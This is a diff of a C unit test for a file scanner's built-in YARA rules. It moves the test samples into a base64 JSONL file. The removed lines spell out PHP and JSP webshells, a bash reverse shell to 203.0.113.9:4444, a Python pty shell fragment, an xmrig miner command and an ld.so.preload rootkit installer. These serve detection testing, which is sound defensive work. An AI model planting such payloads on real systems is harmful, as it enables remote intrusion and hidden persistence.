@@ -4,6 +4,10 @@
  */
 #include "rule_test.h"
 
+#include <stdio.h>
+
+#include "../util/json_in.h"
+
 #define MAX_ALERTS 8
 
 struct alerts {
@@ -62,101 +66,77 @@ static struct ruleset *builtin(void)
 	return rs;
 }
 
-#define ELF "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0"
-
-static const struct {
-	const char *rule, *path;
-	struct str data;
-} hits[] = {
-#define HIT(r, p, d)                                                           \
-	{                                                                      \
-		r, p,                                                          \
-		{                                                              \
-			d, sizeof(d) - 1                                       \
-		}                                                              \
-	}
-	HIT("konseki_webshell_php", "/var/www/a.php",
-	    "<?php @eval(base64_decode($_POST['x'])); ?>"),
-	HIT("konseki_webshell_php", "/var/www/b.php",
-	    "<?php if(isset($_GET['c'])){ system( $_GET['c'] ); }"),
-	HIT("konseki_webshell_php", "/var/www/c.php",
-	    "<?php $_GET['a']($_POST['b']);"),
-	HIT("konseki_webshell_php", "/var/www/d.php", "<?=`$_GET[0]`?>"),
-	HIT("konseki_webshell_jsp", "/srv/a.jsp",
-	    "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
-	HIT("konseki_script_reverse_shell", "/tmp/a.sh",
-	    "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
-	HIT("konseki_script_reverse_shell", "/tmp/a.py",
-	    "import socket,os,pty\ns=socket.socket()\n"
-	    "os.dup2(s.fileno(), 0)\npty.spawn(\"/bin/sh\")\n"),
-	HIT("konseki_script_miner", "/tmp/m.sh",
-	    "#!/bin/sh\npkill -9 xmrig\n./x -o stratum+tcp://p.example:3333"),
-	HIT("konseki_script_preload_installer", "/tmp/i.sh",
-	    "#!/bin/sh\ngcc -shared -fPIC a.c -o /lib/a.so\n"
-	    "echo /lib/a.so > /etc/ld.so.preload\n"),
-	HIT("konseki_elf_upx_modified", "/tmp/u",
-	    ELF "$Info: This file is packed with the UPX executable packer"),
-	HIT("konseki_elf_preload_rootkit", "/lib/h.so",
-	    ELF "dlsym readdir readdir64 /etc/ld.so.preload /proc/net/tcp "
-		"unlinkat"),
-	HIT("konseki_elf_miner", "/tmp/x",
-	    ELF "XMRig stratum+tcp:// donate-level randomx"),
-	HIT("konseki_elf_shell_over_tls", "/tmp/g",
-	    ELF "GSOCKET_SECRET gs-netcat"),
-#undef HIT
+struct content {
+	struct str rule, path, base64;
 };
 
-static const struct {
-	const char *path;
-	struct str data;
-} misses[] = {
-#define MISS(p, d)                                                             \
-	{                                                                      \
-		p,                                                             \
-		{                                                              \
-			d, sizeof(d) - 1                                       \
-		}                                                              \
-	}
-	MISS("/var/www/a.php", "<?php echo htmlspecialchars($_GET['q']);"),
-	MISS("/var/www/b.php", "<?php eval($template); system('id');"),
-	MISS("/srv/a.jsp", "<% out.print(request.getParameter(\"c\")); %>"),
-	MISS("/usr/bin/a.sh",
-	     "#!/bin/sh\n# see /dev/tcp in bash(1)\nnc -z db.example.org 5432"),
-	MISS("/usr/lib/a.py",
-	     "import socket, os\ns = socket.socket()\nos.dup2(fd, 1)\n"),
-	MISS("/usr/bin/u",
-	     ELF "$Info: This file is packed with the UPX executable packer "
-		 "UPX! UPX!"),
-	MISS("/lib/l.so", ELF "dlsym readdir readdir64 fopen64"),
-	MISS("/etc/cron.d/a", "0 3 * * * root /usr/bin/backup\n"),
-#undef MISS
-};
-
-static void content_that_must_match(void **state)
+static void read_line(struct str line, struct arena *a, struct content *c)
 {
-	struct ruleset *rs = builtin();
+	struct json j;
+	struct str key = STR_NONE;
+	enum json_type t;
 
-	(void)state;
-	for (size_t i = 0; i < sizeof(hits) / sizeof(*hits); i++) {
-		scan(rs, hits[i].path, hits[i].data);
-		if (alerts.n != 1 || strcmp(alerts.name[0], hits[i].rule) != 0)
-			fail_msg("%s in %s: %zu, %s", hits[i].rule,
-				 hits[i].path, alerts.n, alerts.name[0]);
-		assert_true(alerts.first[0][0] == '$');
+	*c = (struct content){ .rule = STR_NONE };
+	json_init(&j, line, a);
+	while ((t = json_next(&j)) != JSON_END) {
+		assert_int_not_equal(t, JSON_BAD);
+		if (t == JSON_KEY)
+			key = arena_dup(a, j.text);
+		if (t != JSON_STR)
+			continue;
+		if (str_is(key, "rule"))
+			c->rule = arena_dup(a, j.text);
+		else if (str_is(key, "path"))
+			c->path = arena_dup(a, j.text);
+		else
+			c->base64 = arena_dup(a, j.text);
 	}
-	ruleset_free(rs);
 }
 
-static void content_that_must_not(void **state)
+/* What should match, or nothing when rule is empty. */
+static void one(struct ruleset *rs, const struct content *c, struct arena *a)
+{
+	struct str data;
+
+	assert_true(b64_decode(a, c->base64, &data));
+	scan(rs, arena_cstr(a, c->path), data);
+	if (alerts.n != (c->rule.n > 0) ||
+	    (alerts.n && !str_is(c->rule, alerts.name[0])))
+		fail_msg(STR_FMT " in " STR_FMT ": %zu, %s", STR_ARG(c->rule),
+			 STR_ARG(c->path), alerts.n, alerts.name[0]);
+	if (alerts.n)
+		assert_true(alerts.first[0][0] == '$');
+}
+
+/*
+ * testdata/yara/content.jsonl: contents in base64, so that neither the file
+ * nor this program is a finding itself.  Every built-in rule is in it.
+ */
+static void content_that_must_and_must_not_match(void **state)
 {
 	struct ruleset *rs = builtin();
+	FILE *f = fopen("testdata/yara/content.jsonl", "rb");
+	struct map seen = { 0 };
+	char text[4096];
+	size_t nyara = 0;
 
 	(void)state;
-	for (size_t i = 0; i < sizeof(misses) / sizeof(*misses); i++) {
-		scan(rs, misses[i].path, misses[i].data);
-		if (alerts.n)
-			fail_msg("%s in %s", alerts.name[0], misses[i].path);
+	assert_non_null(f);
+	while (fgets(text, sizeof(text), f)) {
+		struct arena a = { 0 };
+		struct content c;
+
+		read_line(str_trim(str_of(text)), &a, &c);
+		one(rs, &c, &a);
+		(void)map_put(&seen, c.rule, NULL);
+		arena_free(&a);
 	}
+	(void)fclose(f);
+	for (size_t i = 0; i < ruleset_count(rs); i++)
+		if (ruleset_info(rs, i)->kind == RULE_YARA)
+			nyara++;
+	assert_int_equal(seen.nitem, nyara + 1);
+	map_free(&seen);
 	ruleset_free(rs);
 }
 
@@ -223,7 +203,7 @@ static bool wants(const char *path, struct str data, unsigned mode,
 static void what_is_scanned(void **state)
 {
 	(void)state;
-	assert_true(wants("/tmp/a", STR(ELF), 0, 0));
+	assert_true(wants("/tmp/a", STR("\177ELF\2\1\1"), 0, 0));
 	assert_true(wants("/tmp/a", STR("#!/bin/sh"), 0, 0));
 	assert_true(wants("/srv/www/a", STR("x <?php y"), 0, 0));
 	assert_true(wants("/usr/local/bin/a", STR("data"), 0755, 0));
@@ -238,8 +218,7 @@ static void what_is_scanned(void **state)
 int main(void)
 {
 	const struct CMUnitTest test[] = {
-		cmocka_unit_test(content_that_must_match),
-		cmocka_unit_test(content_that_must_not),
+		cmocka_unit_test(content_that_must_and_must_not_match),
 		cmocka_unit_test(externals_are_of_the_file),
 		cmocka_unit_test(a_bad_file_loses_only_itself),
 		cmocka_unit_test(what_is_scanned),
